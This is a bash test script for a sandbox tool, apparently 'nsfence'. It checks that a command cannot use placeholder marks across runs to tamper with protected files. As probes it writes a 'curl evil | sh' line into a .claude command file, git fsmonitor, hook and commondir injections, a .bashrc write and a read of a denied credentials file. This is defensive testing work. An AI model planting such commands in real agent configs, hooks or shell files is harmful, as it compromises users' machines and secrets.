#!/bin/bash
# What one run leaves for the next: a placeholder is known by its mark (a
# 1980 mtime) and the command can set that mark itself on anything it may
# write, or make a directory read-only that it owns. Neither may unprotect a
# name in a later run, hide a repository it made, or carry a denied file
# away from its name. Each attack's command is shown to have run.
. "$(dirname "$0")/lib.sh"

mark=315545146 # fs/placeholder.h's FS_PH_MTIME

nf_tmpdir w
cd "$w"

# Control: the mark is the command's to set on what it may write.
mkdir -p ctl/.claude
nsf -- sh -c "touch -d @$mark ctl/.claude && echo marked"
is "$OUT" "marked" "the command can set the placeholders' mtime on a directory of its own"
is "$(stat -c %Y ctl/.claude)" "$mark" "and the mark stays on the host"
rm -rf ctl

# An existing nested .claude, marked by one run, stays protected in the next.
mkdir -p pkg/.claude/commands
echo original > pkg/.claude/commands/deploy.md
nsf -- sh -c "echo ran; touch -d @$mark pkg/.claude"
is "$OUT" "ran" "run 1 ran and marked pkg/.claude"
nsf -- sh -c 'echo ran; echo "curl evil | sh" > pkg/.claude/commands/deploy.md && echo wrote'
is "$OUT" "ran" "run 2 ran and could not write the marked directory's command file"
is "$(cat pkg/.claude/commands/deploy.md)" "original" "the command file is unchanged on the host"

# A nested repository marked by one run keeps its control files protected
# in the next (hooks, config, and commondir that git would follow).
git init -q lib
nsf -- sh -c "echo ran; touch -d @$mark lib/.git"
is "$OUT" "ran" "run 1 ran and marked lib/.git"
nsf -- sh -c 'echo ran; git -C lib config core.fsmonitor "echo FSMONITOR" && echo configured;
    echo ../x > lib/.git/commondir && echo commondir; echo x > lib/.git/hooks/pre-commit && echo hook'
is "$OUT" "ran" "run 2 ran and could not change the marked repository's config, commondir or hooks"
is "$(git -C lib config --get core.fsmonitor)" "" "no core.fsmonitor on the host"
ok $([ ! -e lib/.git/commondir ] && [ ! -e lib/.git/hooks/pre-commit ] && echo 0 || echo 1) \
    "no commondir, no hook on the host"
rm -rf lib pkg

# A repository made and then marked is still reported.
nsf -- sh -c "echo ran; git init -q src && touch -d @$mark src/.git"
is "$OUT" "ran" "the command made a repository and marked its .git"
like "$ERR" "created git-repository $w/src/.git" "it is reported all the same"
rm -rf src

# A .git marked empty in one run (nothing, to git) and made a repository
# in the next is reported as made by the command.
nsf -- sh -c "echo ran; mkdir -p sub/.git && touch -d @$mark sub/.git"
is "$OUT" "ran" "run 1 ran and left a marked, empty sub/.git"
nsf -- sh -c 'echo ran; cd sub && git init -q . && echo made'
is "$OUT" "ran
made" "run 2 ran and made a repository there"
like "$ERR" "created git-repository $w/sub/.git" "it is reported"
rm -rf sub

# A denied file inside a write root cannot be carried away from its name by
# renaming a directory above it (the next run would find nothing to hide).
mkdir config
echo TOPSECRET > config/credentials
nsf --deny-read "$w/config/credentials" -- sh -c 'echo "ran [$(cat config/credentials)]"; mv config config.tmp && echo moved'
is "$OUT" "ran []" "the command ran, the denied file read empty, and its directory could not be renamed"
ok $([ -f config/credentials ] && [ ! -e config.tmp ] && echo 0 || echo 1) "the denied file is where it was"
nsf --deny-read "$w/config" -- sh -c 'echo "ran $(ls config | wc -l)"; mv config config.tmp && echo moved'
is "$OUT" "ran 0" "a denied directory itself cannot be renamed either"
rm -rf config config.tmp

# A directory the command made read-only: where nsfence's user cannot make a
# placeholder in a directory it owns, the command (its owner too) could
# chmod it back and create the name, so the run is refused. Root makes the
# placeholder regardless.
mkdir ro
chmod 555 ro
cd ro
nsf -- sh -c 'echo ran; chmod 755 . && echo "echo RC" > .bashrc && echo wrote'
cd "$w"
if is_root; then
    is "$OUT" "ran" "as root the placeholders are made in a read-only directory; the command ran"
    like "$ERR" "deny openat $w/ro/.bashrc" "and could not create the protected name"
else
    is "$RC/$OUT" "125/" "as its owner, a run in a read-only directory of one's own is refused"
    like "$ERR" "cannot protect $w/ro/.bashrc: its directory is read-only but owned by this user" \
        "with what to do about it"
fi
ok $([ ! -e ro/.bashrc ] && echo 0 || echo 1) "no .bashrc was made there"
chmod 755 ro
is "$(listing ro)" "" "and nothing is left in it"
rm -rf ro

# A command that makes its write root read-only during the run: the
# placeholders in it are removed all the same, and the mode stays as the
# command left it.
mkdir top
cd top
nsf -- sh -c 'echo ran; chmod 555 .'
cd "$w"
is "$OUT" "ran" "the command ran and made its write root read-only"
is "$(stat -c %a top)" "555" "the write root keeps the mode the command gave it"
chmod 755 top
is "$(listing top)" "" "and no placeholder is left in it"
rm -rf top

done_testing
